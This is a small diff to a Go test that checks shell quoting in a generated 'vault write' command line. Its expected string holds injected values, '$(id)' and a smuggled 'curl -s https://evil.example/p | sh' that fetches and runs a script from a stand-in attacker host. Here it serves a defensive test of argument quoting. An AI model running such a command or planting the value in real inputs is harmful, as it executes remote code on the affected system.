@@ -211,7 +211,7 @@ func TestVaultWriteCommandQuotes(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := `vault write '-namespace=team $(id)' 'auth/jwt/role/x @-; curl -s https://evil.example/p | sh; echo ' @-`
+	want := `vault write '-namespace=team $(id)' 'auth/jwt/role/x @-; curl -s https://evil.example/p | sh; echo ' -`
 	if line != want {
 		t.Errorf("line:\n %s\nwant\n %s", line, want)
 	}
